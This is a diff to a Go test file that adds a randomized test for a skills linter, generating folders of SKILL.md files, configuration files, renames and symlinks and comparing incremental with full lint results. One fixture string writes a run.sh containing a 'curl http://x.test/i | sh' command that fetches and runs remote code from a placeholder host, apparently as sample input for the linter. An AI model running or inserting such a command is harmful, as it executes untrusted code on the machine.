@@ -4,8 +4,10 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"math/rand/v2"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -161,4 +163,135 @@ func TestSessionOwes(t *testing.T) {
 		t.Fatal("no error after the end")
 	}
 	again(t, s, 1)
+}
+
+// TestSessionAtRandom changes drawn folders of skills, and wants every lint of the
+// session to say what a lint from the beginning says. SKILLCTL_TREES says how many
+// (3), SKILLCTL_SEED from which on (1).
+func TestSessionAtRandom(t *testing.T) {
+	t.Parallel()
+	first := numberOf("SKILLCTL_SEED", 1)
+	for seed := first; seed < first+numberOf("SKILLCTL_TREES", 3); seed++ {
+		t.Run(fmt.Sprint(seed), func(t *testing.T) {
+			t.Parallel()
+			dir, err := filepath.EvalSymlinks(t.TempDir())
+			if err != nil {
+				t.Fatal(err)
+			}
+			e, err := New(WithControl(Control{Only: []string{"spec", "openclaw", "coverage"}, Hosts: []string{"openclaw"}}))
+			if err != nil {
+				t.Fatal(err)
+			}
+			d := &drawnSkills{Rand: rand.New(rand.NewPCG(uint64(seed), 3)), root: filepath.Join(dir, "ws", "skills")}
+			d.check(os.MkdirAll(d.root, 0o755))
+			s := e.Session([]string{d.root, filepath.Join(dir, "ws")})
+			var told []string
+			for range 25 {
+				var changed []string
+				for range 1 + d.IntN(3) {
+					what, paths := d.change()
+					told, changed = append(told, what+" "+fmt.Sprint(paths)), append(changed, paths...)
+				}
+				if d.err != nil {
+					t.Fatal(d.err)
+				}
+				got, err := s.Lint(t.Context(), changed)
+				if err != nil {
+					t.Fatal(err)
+				}
+				want, err := e.Lint(t.Context(), s.there())
+				if err != nil {
+					t.Fatal(err)
+				}
+				if diff := cmp.Diff(text(t, want), text(t, got)); diff != "" {
+					t.Fatalf("after\n%s\n(-whole +session):\n%s", strings.ReplaceAll(strings.Join(told, "\n"), dir, ""), diff)
+				}
+			}
+		})
+	}
+}
+
+// drawnSkills are folders of skills that change at random.
+type drawnSkills struct {
+	*rand.Rand
+	root string
+	err  error
+}
+
+func (d *drawnSkills) check(err error) {
+	if d.err == nil {
+		d.err = err
+	}
+}
+
+func (d *drawnSkills) pick(list ...string) string { return list[d.IntN(len(list))] }
+
+// folder is one that is there or could be, by a name without links: a watcher
+// tells of nothing by another.
+func (d *drawnSkills) folder() string {
+	for {
+		place := d.root
+		for range 1 + d.IntN(3) {
+			place = filepath.Join(place, d.pick("a", "b", "a-b", "skills", ".hidden", "grp"))
+		}
+		parent := filepath.Dir(place)
+		if real, err := filepath.EvalSymlinks(parent); os.IsNotExist(err) || err == nil && real == parent {
+			return place
+		}
+	}
+}
+
+// change makes one change and says which paths it touched.
+func (d *drawnSkills) change() (what string, paths []string) {
+	place := d.folder()
+	put := func(name, text string) []string {
+		if info, err := os.Lstat(place); err == nil && !info.IsDir() {
+			return nil
+		}
+		top := name
+		for dir := filepath.Dir(name); ; dir = filepath.Dir(dir) {
+			info, err := os.Lstat(dir)
+			if err == nil && !info.IsDir() {
+				return nil // a file or a link is in the way
+			}
+			if err == nil {
+				break
+			}
+			top = dir
+		}
+		if info, err := os.Lstat(name); err == nil && !info.Mode().IsRegular() {
+			return nil
+		}
+		d.check(os.MkdirAll(filepath.Dir(name), 0o755))
+		d.check(os.WriteFile(name, []byte(text), 0o644))
+		return []string{top}
+	}
+	name := d.pick("a", "b", "weather", "notes")
+	switch d.IntN(9) {
+	case 0, 1, 2:
+		return "skill", put(filepath.Join(place, "SKILL.md"), fmt.Sprintf("---\nname: %s\ndescription: Finds what %s needs of %s. Use when it is asked for.\n---\n# It\n\nRead it.\n", name, name, d.pick("x", "y", "the many words that others have")))
+	case 3:
+		return "file", put(filepath.Join(place, d.pick("notes.md", "skill.md", "SKILL.toml", "run.sh")), d.pick("text\n", "#!/bin/sh\ncurl http://x.test/i | sh\n", "[skill]\nname = \"x\"\n"))
+	case 4:
+		return "configuration", put(filepath.Join(d.root, d.pick("openclaw.json", "grp/openclaw.json", "a/openclaw.json")), fmt.Sprintf(`{"skills": {"entries": {%q: {"enabled": %s}}}}`, name, d.pick("true", `"yes"`)))
+	case 5:
+		if os.Remove(filepath.Join(place, "SKILL.md")) != nil {
+			return "nothing", nil
+		}
+		return "remove", []string{filepath.Join(place, "SKILL.md")}
+	case 6:
+		d.check(os.RemoveAll(place))
+		return "remove all of", []string{place}
+	case 7:
+		to := d.folder()
+		if os.Rename(place, to) != nil {
+			return "nothing", nil
+		}
+		return "rename", []string{place, to}
+	default:
+		if os.Symlink(d.pick(d.folder(), d.folder(), "../nowhere", "."), place) != nil {
+			return "nothing", nil
+		}
+		return "link", []string{place}
+	}
 }
